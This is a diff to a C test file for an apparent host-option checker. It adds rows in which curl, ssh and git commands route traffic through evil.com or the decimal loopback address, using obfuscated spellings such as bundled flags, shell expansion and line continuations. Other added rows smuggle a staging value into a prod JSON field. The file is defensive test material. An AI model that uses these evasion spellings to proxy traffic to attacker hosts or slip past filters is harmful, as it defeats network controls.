@@ -82,7 +82,8 @@ Test(rev60_hosts, bundled_and_abbreviated_host_options_are_read)
         {KT_DX("api.example.com"), WITH_URL("\"args\":[\"curl\",\"-sx\",\"2130706433\",\"x\"]"), 0},
         /* other bundles and long options stay as they were */
         {KT_DX("api.example.com"), WITH_URL("\"cmd\":\"tar -xzf a.tgz && ls -la 2130706433\""), 1},
-        {KT_DX("api.example.com"), WITH_URL("\"cmd\":\"curl --retry 3 --pro 2130706433 x\""), 1},
+        {KT_DX("api.example.com"),
+         WITH_URL("\"cmd\":\"curl --retry 3 --connect-timeout 2130706433 x\""), 1},
     };
 
     kt_run_rows_at(NOW, rows, NROWS(rows));
@@ -100,6 +101,8 @@ Test(rev60_hosts, json_encoded_twice_in_a_lenient_outer_string_is_read)
          WITH_URL("\"p\":\"\\\"{\\\\\\\"host\\\\\\\": \\\\\\\"evil.com\\\\\\\"}\\\"\\n\\\"x\\\"\""),
          0},
         {CUSTOM_PROD, "{\"env\":\"prod\",\"p\":\"'{\\\"env\\\": \\\"staging\\\"}'\"}", 0},
+        {CUSTOM_PROD, "{\"env\":\"prod\",\"p\":\"u'{\\\"env\\\": \\\"staging\\\"}'\"}", 0},
+        {CUSTOM_PROD, "{\"env\":\"prod\",\"p\":\"b'{\\\"env\\\": \\\"staging\\\"}'\"}", 0},
         /* quoted text that holds no JSON, and the allowed values */
         {CUSTOM_PROD, "{\"env\":\"prod\",\"p\":\"'hello' and 'world'\"}", 1},
         {CUSTOM_PROD, "{\"env\":\"prod\",\"p\":\"'{\\\"env\\\": \\\"prod\\\"}'\"}", 1},
@@ -157,4 +160,38 @@ Test(rev60_hosts, a_run_of_ports_costs_linear_time)
     cr_expect_lt(t4, 8 * t1 + 0.05, "256 KiB took %.4f s, 1 MiB %.4f s (ratio %.1f)", t1, t4,
                  t4 / (t1 > 0 ? t1 : 1e-9));
     chio_kernel_free(k);
+}
+
+/* review 21 (hostfix): H1 bundles with digits or '#', long options in
+ * any case, three-letter abbreviations; H2 a line continuation before
+ * the value; H3 a value the shell expands; H4 and L2 KEY VALUE after
+ * ssh's -o and git's config; M1 JSON text is no command (its quotes
+ * removed would run its members together); L1 other programs' bundles
+ * are no host options */
+Test(rev60_hosts, more_spellings_of_host_options_are_read_and_other_bundles_are_not)
+{
+    static const kt_row rows[] = {
+        {KT_DX("api.example.com"), WITH_URL("\"cmd\":\"curl -4x evil.com:3128 x\""), 0},
+        {KT_DX("api.example.com"), WITH_URL("\"cmd\":\"curl -#x 2130706433 x\""), 0},
+        {KT_DX("api.example.com"), WITH_URL("\"cmd\":\"ssh -6J evil.com host\""), 0},
+        {KT_DX("api.example.com"), WITH_URL("\"cmd\":\"curl --PROXY evil.com:3128 x\""), 0},
+        {KT_DX("api.example.com"), WITH_URL("\"cmd\":\"curl --pre evil.com:3128 x\""), 0},
+        {KT_DX("api.example.com"), WITH_URL("\"cmd\":\"curl -x \\\\\\n evil.com:3128 x\""), 0},
+        {KT_DX("api.example.com"), WITH_URL("\"cmd\":\"curl -x ${P:-evil.com} x\""), 0},
+        {KT_DX("api.example.com"), WITH_URL("\"cmd\":\"curl -x ev${X}il.com x\""), 0},
+        {KT_DX("api.example.com"), WITH_URL("\"cmd\":\"ssh -o 'ProxyJump evil.com' host\""), 0},
+        {KT_DX("api.example.com"),
+         WITH_URL("\"cmd\":\"git config --global http.proxy evil.com:3128\""), 0},
+        {KT_DX("api.example.com"), WITH_URL("\"args\":[\"/usr/bin/curl\",\"-sx\",\"2130706433\"]"),
+         0},
+        /* other programs' bundles, and JSON text in a string */
+        {KT_DX("api.example.com"), WITH_URL("\"cmd\":\"bash -ex deploy.sh && git clean -fdx\""), 1},
+        {KT_DX("api.example.com"), WITH_URL("\"cmd\":\"ls -lax notes.txt; sh -eux build.sh\""), 1},
+        {KT_DX("api.example.com"), WITH_URL("\"args\":[\"git\",\"clean\",\"-fdx\",\"3232235777\"]"),
+         1},
+        {KT_DX("api.example.com"),
+         WITH_URL("\"body\":\"{\\\"name\\\":\\\"report.pdf\\\",\\\"size\\\":1}\""), 1},
+    };
+
+    kt_run_rows_at(NOW, rows, NROWS(rows));
 }
